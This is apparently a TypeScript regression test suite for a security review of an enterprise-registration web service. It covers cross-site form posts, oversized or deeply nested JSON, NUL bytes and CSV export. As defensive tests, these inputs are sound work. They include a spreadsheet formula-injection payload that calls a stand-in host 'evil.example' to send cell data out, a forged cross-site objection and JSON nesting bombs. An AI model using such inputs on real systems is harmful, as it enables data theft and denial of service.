// Regression tests of the December 2026 security review, one (or more) per finding, named by it.
import { makeCreditCode } from '../factories/credit-code.factory';
import { passingFacts } from '../factories/facts.factory';
import { registerEnterprise, type Session } from '../support/actors';
import { startWithAuthorities, type Authorities } from '../support/authorities';
import { FakeClock } from '../support/fake-clock';
import { walkInnovative } from '../support/journeys';
import type { TestApp } from '../support/test-app';

describe('security review (2026-12): regressions', () => {
  let t: TestApp;
  let admin: Session;
  let a: Authorities;

  beforeAll(async () => {
    ({ t, admin, a } = await startWithAuthorities({
      clock: new FakeClock('2026-09-29T02:00:00.000Z'),
    }));
  });
  afterAll(() => t.close());

  const registration = (overrides: Record<string, unknown> = {}) => ({
    creditCode: makeCreditCode('130102'),
    name: 'Shijiazhuang Bearing Works Co., Ltd.',
    regionCode: '130102',
    sector: 'industry',
    establishedOn: '2010-06-01',
    account: {
      username: `u${Math.random().toString(36).slice(2, 10)}`,
      password: 'long-enough-pass',
    },
    ...overrides,
  });

  describe('M8: only JSON bodies are parsed', () => {
    it('answers a cross-site form post of an objection with 415, filing nothing', async () => {
      const app = await walkInnovative(t, a, 'publicNotice');
      const res = await t.http
        .post(`/api/v1/public/notices/${app.id}/objections`)
        .set('Origin', 'https://evil.example')
        .type('form')
        .send({ name: 'Form Victim', contact: 'x', reason: 'cross-site' })
        .expect(415);
      expect(res.body.code).toBe('UNSUPPORTED_MEDIA_TYPE');
      const after = await t.http.get(`/api/v1/applications/${app.id}`).set(a.province.auth);
      expect(after.body.state).toBe('publicNotice');
    });

    it('answers a form-encoded registration with 415', async () => {
      await t.http.post('/api/v1/enterprises').type('form').send({ name: 'x' }).expect(415);
    });
  });

  describe('M2: bounded parsing', () => {
    const post = (body: string) =>
      t.http.post('/api/v1/enterprises').set('Content-Type', 'application/json').send(body);

    it.each([
      ['deeply nested arrays', `{"x":${'['.repeat(5000)}${']'.repeat(5000)}}`],
      ['deeply nested objects', `${'{"a":'.repeat(2000)}1${'}'.repeat(2000)}`],
      ['a wide array', JSON.stringify({ x: Array.from({ length: 200_000 }, () => []) })],
      [
        'a wide object',
        JSON.stringify(Object.fromEntries(Array.from({ length: 60_000 }, (_, i) => [`k${i}`, i]))),
      ],
    ])('refuses %s before validation with 400, never 500', async (_name, body) => {
      const res = await post(body).expect(400);
      expect(res.body.code).toBe('VALIDATION_FAILED');
    });

    it('refuses deeply nested event data from a signed-in user with 400', async () => {
      const e = await registerEnterprise(t.http);
      const created = await t.http
        .post('/api/v1/applications')
        .set(e.auth)
        .send({ enterpriseId: e.enterpriseId, tier: 'innovative_sme', facts: passingFacts(2026) })
        .expect(201);
      const data = `${'{"a":'.repeat(2000)}1${'}'.repeat(2000)}`;
      await t.http
        .post(`/api/v1/applications/${created.body.id}/events`)
        .set({ ...e.auth, 'Content-Type': 'application/json' })
        .send(`{"type":"withdraw","data":${data}}`)
        .expect(400);
      const after = await t.http.get(`/api/v1/applications/${created.body.id}`).set(e.auth);
      expect(after.body.state).toBe('draft');
    });
  });

  describe('L3: NUL bytes are refused as input, on every database', () => {
    it.each([
      ['a name', { name: 'Bearing\u0000Works' }, 'name'],
      [
        'a username',
        { account: { username: 'nul\u0000user', password: 'long-enough-pass' } },
        'account.username',
      ],
    ])('refuses %s with a NUL byte with 400', async (_name, override, field) => {
      const res = await t.http.post('/api/v1/enterprises').send(registration(override)).expect(400);
      expect(JSON.stringify(res.body.errors ?? res.body)).toContain(field.split('.')[0]!);
    });

    it('refuses a NUL byte in a comment with 400', async () => {
      const app = await walkInnovative(t, a, 'submitted');
      await t.http
        .post(`/api/v1/applications/${app.id}/events`)
        .set(a.county.auth)
        .send({ type: 'review.start', comment: 'looks \u0000 fine' })
        .expect(400);
    });
  });

  describe('M6: the CSV export neutralises formula cells', () => {
    it('prefixes a cell that starts with = + - @ (and tab, CR) with a quote', async () => {
      const app = await walkInnovative(t, a, 'publicNotice');
      const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")';
      await t.http
        .post(`/api/v1/public/notices/${app.id}/objections`)
        .set('X-Request-Id', '-1-1')
        .send({ name: 'Zhang San', contact: '138', reason: formula })
        .expect(202);
      const csv = await t.http
        .get(`/api/v1/audit/events/export?format=csv&applicationId=${app.id}`)
        .set(admin.auth)
        .expect(200);
      const line = csv.text.split('\n').find((l) => l.includes('objection.file'))!;
      expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click for details"")"`);
      expect(line).not.toMatch(/,"?=HYPERLINK/);
      expect(line).toContain(",'-1-1,");
    });
  });
});
